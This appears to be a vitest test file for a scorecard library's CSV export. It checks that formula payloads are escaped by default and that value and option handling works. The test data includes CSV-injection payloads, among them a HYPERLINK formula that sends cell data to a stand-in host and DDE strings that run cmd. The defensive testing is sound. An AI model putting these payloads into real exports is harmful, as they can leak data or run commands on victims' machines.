// Issue 12 item 4 (CSV injection, OWASP) and issue 13's export point (raw numbers by default, display text on request).
import { describe, expect, it } from 'vitest';
import { type ScorecardTemplate, scorecardToCsv, scoreScorecard } from '@servicescore/core';

/** A one-indicator template whose labels and suggestion are the given hostile texts. */
function sheet(dimension: string, indicator: string, suggestion: string): ScorecardTemplate {
  return {
    id: 'x',
    label: { 'zh-CN': '表', 'en-US': 'Sheet' },
    dimensions: [
      {
        id: 'd',
        label: { 'zh-CN': dimension, 'en-US': dimension },
        weight: 100,
        indicators: [
          {
            id: 'a',
            label: { 'zh-CN': indicator, 'en-US': indicator },
            source: { metric: 'avgResolutionTime' },
            weight: 100,
            rule: { type: 'bands', bands: [{ max: 7_200_000, points: 10 }, { points: 5 }] },
            suggestions: [{ 'zh-CN': suggestion, 'en-US': suggestion }],
          },
        ],
      },
    ],
  };
}

/** The cells of the first data row (no quoted commas in these payloads). */
const row = (csv: string) => csv.slice(1).split('\r\n')[1]!;

describe('scorecardToCsv neutralises formulas by default (OWASP CSV injection)', () => {
  // The classic payloads: a live link, DDE, arithmetic, @SUM, a leading tab and CR.
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
    ],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['+1+1', `'+1+1`],
    ['-2+3', `'-2+3`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('%j is written as text: %s', (payload, cell) => {
    const result = scoreScorecard(sheet(payload, 'ok', 'ok'), { avgResolutionTime: 9_000_000 });
    expect(row(scorecardToCsv(result, 'en-US')).startsWith(`${cell},`)).toBe(true);
    // …in the indicator and suggestion columns too.
    const other = scoreScorecard(sheet('ok', payload, payload), { avgResolutionTime: 9_000_000 });
    const line = row(scorecardToCsv(other, 'en-US'));
    expect(line.startsWith(`ok,${cell},`)).toBe(true);
    expect(line.endsWith(`,${cell}`)).toBe(true);
  });

  it('leaves safe text and the numbers it writes alone; neutralizeFormulas: false opts out', () => {
    const result = scoreScorecard(sheet('=1+1', '-5', 'fine'), { avgResolutionTime: 9_000_000 });
    expect(row(scorecardToCsv(result, { locale: 'en-US' }))).toBe(
      // 2 h 30 min > 2 h → 5 points → score 50.0, weighted 50 × 100 / 100 = 50.00.
      "'=1+1,'-5,100,9000000,ms,≤ 2 h → 10; else → 5,5,50.0,50.00,Scored,fine",
    );
    expect(row(scorecardToCsv(result, { locale: 'en-US', keepNumericText: true }))).toMatch(
      /^'=1\+1,-5,/,
    );
    expect(row(scorecardToCsv(result, { locale: 'en-US', neutralizeFormulas: false }))).toMatch(
      /^=1\+1,-5,/,
    );
  });
});

describe('scorecardToCsv values', () => {
  const result = scoreScorecard(sheet('Speed', 'Resolution', 'Staff up'), {
    avgResolutionTime: 9_000_000,
  });
  it('are raw numbers by default and display text on request', () => {
    // 9,000,000 ms = 2 h 30 min > 2 h → 5 points → score 50.0 → weighted 50.00.
    expect(row(scorecardToCsv(result, 'en-US'))).toBe(
      'Speed,Resolution,100,9000000,ms,≤ 2 h → 10; else → 5,5,50.0,50.00,Scored,Staff up',
    );
    expect(row(scorecardToCsv(result, { locale: 'en-US', values: 'display' }))).toBe(
      'Speed,Resolution,100,2 h 30 min,,≤ 2 h → 10; else → 5,5,50.0,50.00,Scored,Staff up',
    );
  });

  it('rejects unknown option keys and bad values by name', () => {
    expect(() => scorecardToCsv(result, { local: 'en-US' } as never)).toThrow(
      'scorecardToCsv: unknown option `local`; the options are locale, values, neutralizeFormulas, keepNumericText.',
    );
    expect(() => scorecardToCsv(result, { values: 'text' } as never)).toThrow(RangeError);
  });
});
